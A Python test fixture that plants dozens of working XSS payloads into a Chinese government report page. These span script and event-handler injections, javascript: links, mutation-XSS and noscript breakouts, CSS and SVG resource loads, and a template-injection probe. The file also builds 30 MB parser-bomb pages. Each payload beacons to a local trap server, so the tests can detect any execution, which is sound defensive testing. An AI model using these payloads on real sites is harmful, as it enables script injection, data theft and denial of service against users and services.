"""Pages that attack whoever looks at them, and the trap that their attacks would reach. All made up.

Every attack, if it ran or loaded, would ask the trap for an address; the tests look whether anything was asked.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from desk_archive import HOST, PAGES, Page

SCRIPT = "<script>document.title='RUN';fetch('{trap}/script')</script>"
HEAD = """
<meta http-equiv="refresh" content="0;url={trap}/refresh"><base href="{trap}/base/">
<link rel="stylesheet" href="{trap}/sheet.css"><link rel="preload" as="image" href="{trap}/preload.png">
<link rel="icon" href="{trap}/icon.ico"><link rel="manifest" href="{trap}/manifest">
<link rel="dns-prefetch" href="{trap}">
<link rel="prefetch" href="{trap}/prefetch"><link rel="import" href="{trap}/import">
<link rel="modulepreload" href="{trap}/m.js">
<script src="{trap}/outside.js"></script><script type="module">import '{trap}/module.js'</script>
<style>@import "{trap}/import.css"; @import url({trap}/import2.css);
@font-face {{ font-family: F; src: url({trap}/font.woff) }} * {{ font-family: F }}
body {{ background: url("{trap}/body.png") }} td::before {{ content: url({trap}/before.png) }}
table {{ background-image: -webkit-image-set(url({trap}/set.png) 1x); cursor: url({trap}/cursor.cur), auto }}
li {{ list-style-image: u\\72l({trap}/escaped.png) }} .x {{ --v: url({trap}/var.png); background: var(--v) }}
p::after {{ content: '</style><script>fetch("{trap}/closed-style")</script>' }}</style>
"""
BODY = """
<script>document.title='RUN';window.name='RUN';fetch('{trap}/fetch');new Image().src='{trap}/image';alert(1)</script>
<img src="{trap}/img.png" srcset="{trap}/srcset.png 1x" onerror="fetch('{trap}/onerror')">
<img src=x onerror="fetch('{trap}/onerror2')"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'
 onload='fetch(1)'/>"><picture><source srcset="{trap}/picture.png"><img src="{trap}/picture2.png"></picture>
<a href="javascript:fetch('{trap}/js')" ping="{trap}/ping">js</a><a href="  java&#10;script:alert(1)">js</a>
<a href="{trap}/link" target=_blank onfocus="fetch('{trap}/focus')" autofocus tabindex=1>link</a>
<a href="data:text/html,<script>fetch('{trap}/data')</script>">data</a><a href="/relative/{{x}}.html">relative</a>
<iframe src="{trap}/frame"></iframe><iframe srcdoc="<script>fetch('{trap}/srcdoc')</script>"></iframe>
<object data="{trap}/object"></object><embed src="{trap}/embed"><applet code="{trap}/applet"></applet>
<form action="{trap}/form" method=post id=f><input type=image src="{trap}/input.png"><input autofocus
 onfocus="fetch('{trap}/focus2')"><button formaction="{trap}/button">go</button><textarea></textarea></form>
<button form=f>far</button><isindex action="{trap}/isindex"><keygen>
<svg onload="fetch('{trap}/svg')"><image href="{trap}/svgimage.png"/><use href="{trap}/use.svg#a"/>
<script>fetch('{trap}/svgs')
</script><foreignObject><iframe src="{trap}/foreign"></iframe></foreignObject>
<style>*{{background:url({trap}/svgstyle)}}</style>
<animate onbegin="fetch('{trap}/begin')" attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('{trap}/mxss')&gt;">
</style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=fetch('{trap}/noscript')>"></noscript>
<xmp><p title="</xmp><img src=x onerror=fetch('{trap}/xmp')>"></xmp>
<template><script>fetch('{trap}/template')</script><img src="{trap}/t.png"></template>
<details open ontoggle="fetch('{trap}/toggle')"><summary>s</summary></details>
<marquee onstart="fetch('{trap}/marquee')">m</marquee><video autoplay poster="{trap}/poster.png"><source
 src="{trap}/video.mp4" onerror="fetch('{trap}/source')"></video><audio src="{trap}/a.mp3" autoplay></audio>
<table background="{trap}/table.png"><tr background="{trap}/tr.png"><td background="{trap}/td.png"
 style="background:url({trap}/style.png);position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">x</td></tr></table>
<p style="background:u\\72l({trap}/styleescape.png)">p</p><p style='content:"</p><script>fetch(1)</script>"'>q</p>
<div id="gongkai-figure" onclick="fetch('{trap}/click')">not the figure</div>
<style>div[role=banner] {{ display: none !important }}</style><bgsound src="{trap}/sound">
<frameset><frame src="{trap}/fs"></frameset>
"""
NAME = "\"><img src=x onerror=fetch('{trap}/{where}')><script>document.title='RUN'</script>{{{{7*7}}}}"


class Trap:
    """A server on loopback that writes down what it is asked for, and answers with what would hurt."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET
            do_OPTIONS = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Nothing: what was asked is in the list."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@contextmanager
def trap() -> Iterator[Trap]:
    """The trap, while the block runs."""
    made = Trap()
    thread = threading.Thread(target=made.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.server.shutdown()
        made.server.server_close()
        thread.join(timeout=10)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def pages(trap: str) -> list[Page]:
    """Attacks around and inside real reports, so that titles, names, cells and prose of the archive are hostile too."""
    name = {where: _escaped(NAME.format(trap=trap, where=where)) for where in ("title", "publisher", "cell", "prose")}
    text = (PAGES / "qujiang-2020.html").read_text(encoding="utf-8")
    head, body = HEAD.format(trap=trap), BODY.format(trap=trap)
    assert ">区民政局<" in text and ">163<" in text and "</head>" in text and "<body>" in text
    full = text.replace("</head>", head + "</head>").replace("<body>", f"<body onload=\"fetch('{trap}/load')\">" + body)
    full = full.replace(">163<", f">163{SCRIPT.format(trap=trap)}<").replace(">149<", f">{name['cell']}<")
    full = full.replace("政府信息公开年度报告<", f"政府信息公开年度报告{name['title']}<").replace(
        ">区民政局<", f">区民政局{name['publisher']}<"
    )
    full = full.replace('年度报告">', f'年度报告{name["title"].replace(chr(34), "&quot;")}">')
    inside = full.replace("</body>", f"<p>一、概述</p><p>{name['prose']}</p>{body}</body>")
    stored = (PAGES / "v2019-stored-text.txt").read_text(encoding="utf-8") + "\n" + NAME.format(trap=trap, where="text")
    return [
        Page(f"{HOST}/art/hostile.html", inside.encode()),
        Page(f"{HOST}/art/hostile.html", inside.replace(">21<", ">22<").encode(), day=9),
        Page(f"{HOST}/art/x%22%3E%3Cscript%3E.html?a='\"><script>alert(1)</script>", full.encode()),
        Page(f"{HOST}/art/stored.txt", stored.encode(), "text/plain"),
        Page(f"{HOST}/art/raw.html", (head + body).encode(), "text/html"),
        Page(
            f"{HOST}/art/type.html", b"<script>fetch('%s/type')</script>" % trap.encode(), f'x"><img src={trap}/type>'
        ),
    ]


def bombs() -> list[Page]:
    """Bodies of 30 MB that a browser or a parser would choke on; stored in a few kilobytes."""
    size = 30_000_000
    return [
        Page(f"{HOST}/art/nested.html", (b"<table><tr><td>" * (size // 15))[:size]),
        Page(f"{HOST}/art/spaces.txt", b" |" * (size // 2), "text/plain"),
        Page(f"{HOST}/art/attribute.html", b"<p title='" + b"a" * (size - 10)),
        Page(f"{HOST}/art/small-nested.html", b"<table><tr><td>" * 200_000),
        Page(f"{HOST}/art/entities.html", b"&amp;" * 1_500_000),
    ]
